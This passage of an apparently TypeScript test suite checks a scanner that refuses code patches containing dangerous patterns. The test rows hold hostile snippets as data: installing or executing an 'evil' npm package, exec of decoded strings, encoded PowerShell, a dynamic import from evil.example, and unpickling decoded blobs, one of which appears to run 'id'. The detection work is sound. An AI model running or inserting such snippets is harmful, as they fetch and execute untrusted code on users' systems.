    ['src/check.js', "spawnSync(tool, ['-g', 'in', 'evil'])"],
    ['src/check.py', "import subprocess\nsubprocess.run([npm_path, '--yes', 'exec', 'evil'])"],
    ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
    ['src/t.py', 'import base64\nexec(base64.b32decode(s))'],
    ['src/t.py', 'import base64\nexec(base64.b16decode(s))'],
    ['src/t.py', 'import base64\nexec(base64.b85decode(s))'],
    ['src/t.py', 'import base64\nexec(base64.decodestring(s))'],
    ['src/t.py', 'import binascii\nexec(binascii.a2b_base64(s))'],
    ['src/t.py', 'from marshal import dumps, loads as l\nexec(l(s))'],
    ['src/t.js', "const s = (\n  atob(x));\nnew Function(s)()"],
    ['src/check.js', "execSync('powershell \u2015enc ' + blob)"],
    ['src/load.ts', "const u: URL | string = 'https://evil.example/x.js';\nawait import(u)"],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
});

describe('attack-52: the new readings in linear time', () => {
  it.each([
    ['src/check.py', 'computed programs given options with values, never a verb', "run([tool, '--a', 'b', '-c', '--d=e', "],
    ['src/check.js', 'environments given decoded names, never closed', 'v = atob(x)\nrun(v, { env: { A: v, "B": v, C: v, '],
    ['src/check.js', 'names whose values open on the next line', 's =\n  (\nt = [\n'],
    ['src/check.py', 'marshal imported under other names, never called', 'import marshal as m\nfrom marshal import loads as l, dumps, '],
    ['src/load.ts', 'typed names given hosts, never imported', "u: string: x: URL | a = 'https://x'; b: "],
    ['src/check.js', 'PowerShell given dashed options, never encoded', 'pwsh \u2013NoProfile \u2014e"x \u2015ec '],
    ['docs/guide.md', 'tested code naming configuration files, writing nothing', ">>> writexxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx '.npmrc' "],
    ['src/check.js', 'PowerShell named apart from its call', "ps = 'pwsh'\nspawnSync(ps, ['-e', "],
    ['src/check.py', 'programs after env, spread or joined, never a verb', "run(['/usr/bin/env', t] + [*[...[ '-a', 'b', "],
    ['src/t.py', 'decoders written to files, never run', "os.system('echo x | base64 -d > /tmp/p') | tee q  sudo env A=b `x | "],
    ['src/t.py', 'prefixes and backticks before no decoder', "os.system('sudo exec env A=b -x `echo x | y"],
    ['src/t.py', 'ANSI-C quoting never escaped', "os.system(\"echo $'abc | sh "],
    ['src/Run.cs', 'ProcessStartInfo lines setting nothing whole', 'var psi = new ProcessStartInfo\n FileName = "a" + b + $"c" + ArgumentList = { "x", ArgumentList.Add( Arguments = @"'],
    ['src/check.rb', 'word lists never closed', "system(tool, *%w[a b %q(c %w{d qw<e "],
    ['src/check.rs', 'computed programs given arguments, never a verb', 'Command::new(tool).arg("-a").arg("b").args(["-c", '],
    ['src/check.py', 'decoders bound by other names, never called', "d, e = getattr(base64, 'x'), (base64\n .b ['atob'] def d(x): lambda y: f = (a) => "],
    ['src/check.js', 'reversals and JSON strings never given to a sink', "[...s].reverse().join('' JSON.parse('\"\\u0061 String['fromCharCode' "],
    ['src/tool.jl', 'Pkg imported, never adding', 'using Pkg: a, b, c, using Pkg: import Pkg a'],
    ['src/tool.R', 'installers named nowhere', 'p_loa pkg_instal install_githu install.package '],
    ['src/load.js', 'names given addresses in wrappers, never imported', "u = String(new URL('https:\\/\\/x'; {u} = {a: 'data: l = (v) => import(w"],
    ['src/check.py', 'codecs named, never given to a sink', ".decode('unicode_escape' .decode(' f'instal r' "],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});

// Session 49 (the lead, after attack 52): an unpickler given a blob the patch writes into its code, decoded in place,
// runs what the blob says (pickle's `__reduce__`); session 50: so does one given decoded data from anywhere.
describe('attack-52: an unpickler given a decoded literal', () => {
  it.each([
    ['src/t.py', "import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))"],
    ['src/t.py', "import pickle, binascii\npickle.loads(binascii.unhexlify(b'8004952000'))"],
    ['src/t.py', "import io, torch, base64\nmodel = torch.load(io.BytesIO(base64.b64decode(\n    'UEsDBAAACAgAAAAAAAAAAAAAAAAAAAAAAAAQ'\n)))"],
    ['src/t.py', "import dill, zlib\nf = dill.loads(zlib.decompress(b'x\\x9c'))"],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));

  // Session 50: an unpickler is a code sink, whatever gives it the decoded data (the row above, a blob through a
  // name, is closed): `__reduce__` runs whether the blob is in the patch or in a row, an environment or a file the
  // attacker writes, and a decoder between them is how a payload travels as text.
  it.each([['src/t.py', "import pickle, base64\nstate = pickle.loads(base64.b64decode(row['payload']))"]] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));

  it.each([
    ['src/t.py', "import json, base64\nstate = json.loads(base64.b64decode(row['payload']))"],
    ['src/t.py', "import pickle\nwith open(path, 'rb') as f:\n    model = pickle.load(f)"],
    ['src/t.py', "import json, base64\nconfig = json.loads(base64.b64decode('e30='))"],
    ['src/t.py', "import numpy as np, io, base64\nweights = np.load(io.BytesIO(base64.b64decode('k05VTVBZ')))"],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));

  it.each([['src/t.py', 'unpicklers given decoders never closed', "pickle.loads(b64decode( 'a' b64decode(b\"x "]] as const)(
    'checks, in %s, %s',
    { timeout: 120_000 },
    checksInLinearTime,
  );
});
